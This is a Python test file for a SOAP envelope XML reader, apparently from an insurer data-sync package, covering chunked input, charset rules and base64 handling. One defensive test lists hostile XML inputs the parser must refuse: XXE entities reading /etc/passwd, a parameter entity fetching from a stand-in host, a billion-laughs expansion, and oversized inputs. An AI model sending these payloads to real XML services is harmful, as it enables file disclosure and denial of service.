from __future__ import annotations

import time
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bipro_sync.bipro.soap import envelope
from bipro_sync.bipro.soap.envelope import EnvelopeReader
from bipro_sync.errors import InsurerError, ProtocolError, RefusedXmlError, StorageError

from ..fixtures import message
from ..recorders import Sink


DATA = b"<Datei><Daten>%s</Daten></Datei>"


def read(data, *, charset="", size=1 << 16, sink=None):
    reader = EnvelopeReader(sink or Sink(), charset)
    for start in range(0, len(data), size):
        reader.feed(data[start : start + size])
    return reader.finish()


def shape(element):
    return (
        element.namespace,
        element.name,
        element.text,
        element.reference,
        [shape(each) for each in element.children],
    )


@settings(deadline=None)
@given(st.integers(1, 400))
def test_the_pieces_that_an_envelope_comes_in_do_not_matter(size):
    whole, cut = Sink(), Sink()
    assert shape(read(message("40"), sink=whole)) == shape(read(message("40"), size=size, sink=cut))
    assert whole.parts == cut.parts


def test_an_envelope_cut_at_any_byte_before_its_root_ends_is_an_error():
    data = message("40").rstrip()
    for length in range(len(data)):
        with pytest.raises(ProtocolError):
            read(data[:length])
    assert read(data).name == "Envelope"


@pytest.mark.parametrize(
    "attack",
    [
        b"<!DOCTYPE a><a/>",
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.invalid/x">%p;]><a/>',
        b'<!DOCTYPE l [<!ENTITY a0 "ha">'
        + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
        + b"]><l>&a9;</l>",
        b"<a>" * 100_000,
        b"<a " + b" ".join(b'a%d="x"' % n for n in range(200_000)) + b"/>",
        b'<a b="' + b"x" * (9 << 20) + b'"/>',
        b"<a><!--" + b"x" * (9 << 20) + b"--></a>",
        b"<a>" + b"x" * (2 << 20) + b"</a>",
    ],
    ids=["doctype", "system", "entity", "parameter", "laughs", "levels", "attributes", "value", "comment", "leaf"],
)
def test_an_attack_is_refused_quickly(attack):
    begun = time.process_time()
    with pytest.raises(RefusedXmlError):
        read(attack)
    assert time.process_time() - begun < 1


def test_more_elements_and_text_than_any_honest_answer_has_are_refused(monkeypatch):
    monkeypatch.setattr(envelope, "MAX_ELEMENTS", 50)
    monkeypatch.setattr(envelope, "MAX_TEXT", 100)
    read(b"<a>" + b"<b/>" * 49 + b"</a>")
    with pytest.raises(RefusedXmlError, match="elements"):
        read(b"<a>" + b"<b/>" * 50 + b"</a>")
    with pytest.raises(RefusedXmlError, match="text"):
        read(b"<a>" + b"<b>xxxxxxxxxxx</b>" * 10 + b"</a>")


@pytest.mark.parametrize("text", [b"&unknown;", b"<b></a>", b"\xff", b"<b>\x01</b>"])
def test_what_is_not_well_formed_is_an_error_that_repeats_nothing_of_it(text):
    with pytest.raises(ProtocolError) as caught:
        read(b"<a><geheim/>" + text + b"</a>", size=1)
    assert "geheim" not in str(caught.value)
    assert "unknown" not in str(caught.value)


def test_something_after_the_root_is_an_error():
    with pytest.raises(ProtocolError):
        read(b"<a/><b/>")


@pytest.mark.parametrize("empty", [b"", b"   "])
def test_an_empty_envelope_is_an_error(empty):
    with pytest.raises(ProtocolError, match="empty"):
        read(empty)


@pytest.mark.parametrize(
    ("data", "charset"),
    [
        ("<a>ü</a>".encode(), ""),
        ("<a>ü</a>".encode("latin-1"), "iso-8859-1"),
        ('<?xml version="1.0" encoding="iso-8859-1"?><a>ü</a>'.encode("latin-1"), "utf-8"),
        ('<?xml version="1.0"?><a>ü</a>'.encode("cp1252"), "windows-1252"),
        ("\ufeff<a>ü</a>".encode(), "iso-8859-1"),
        ("<a>ü</a>".encode("utf-16"), ""),
    ],
)
def test_the_declaration_decides_about_the_charset_then_mime_then_utf_8(data, charset):
    assert read(data, charset=charset).text == "ü"


@pytest.mark.parametrize("charset", ["klingon", "utf-8\0", "utf\x01", "\u00fctf-8", "x" * 10_000])
def test_an_unknown_charset_is_an_error(charset):
    with pytest.raises(ProtocolError, match="character set"):
        read(b"<a/>", charset=charset)


def test_base64_goes_to_the_sink_and_never_into_the_tree():
    sink = Sink()
    root = read(DATA % b"\r\n UVVJ\r\n Qw== ", sink=sink)
    assert sink.parts == [b"QUIC"]
    assert root.children[0].text == ""
    assert sink.bytes_of(root.children[0].inline) == b"QUIC"


def test_base64_in_a_cdata_section_is_base64():
    sink = Sink()
    read(DATA % b"<![CDATA[UVVJQw==]]>", sink=sink)
    assert sink.parts == [b"QUIC"]


def test_an_empty_data_element_is_an_empty_file():
    sink = Sink()
    read(b"<Datei><Daten/></Datei>", sink=sink)
    assert sink.parts == [b""]


@pytest.mark.parametrize(
    "content",
    [
        b"UVVJ!",
        b"UVVJQ",
        "ü".encode(),
        b"<x/>",
        b'<i:Include xmlns:i="http://www.w3.org/2004/08/xop/include" href="cid:a"/>UVVJ',
        b'UVVJ<i:Include xmlns:i="http://www.w3.org/2004/08/xop/include" href="cid:a"/>',
        b'<i:Include xmlns:i="http://www.w3.org/2004/08/xop/include" href="cid:a"/>' * 2,
        b'<i:Include xmlns:i="urn:not-xop" href="cid:a"/>',
    ],
)
def test_data_that_is_neither_base64_nor_one_include_is_an_error(content):
    with pytest.raises(ProtocolError):
        read(DATA % content)


def test_what_the_sink_raises_leaves_the_parser_unchanged():
    sink = Sink()
    sink.broken = True
    with pytest.raises(StorageError, match="the disk is full"):
        read(message("40"), sink=sink)


@settings(deadline=None)
@given(st.binary(max_size=200) | st.text(alphabet="<>/ab&;!-[]? =\"'", max_size=200).map(str.encode))
def test_only_our_errors_leave_the_parser(data):
    with suppress(InsurerError):
        read(data)
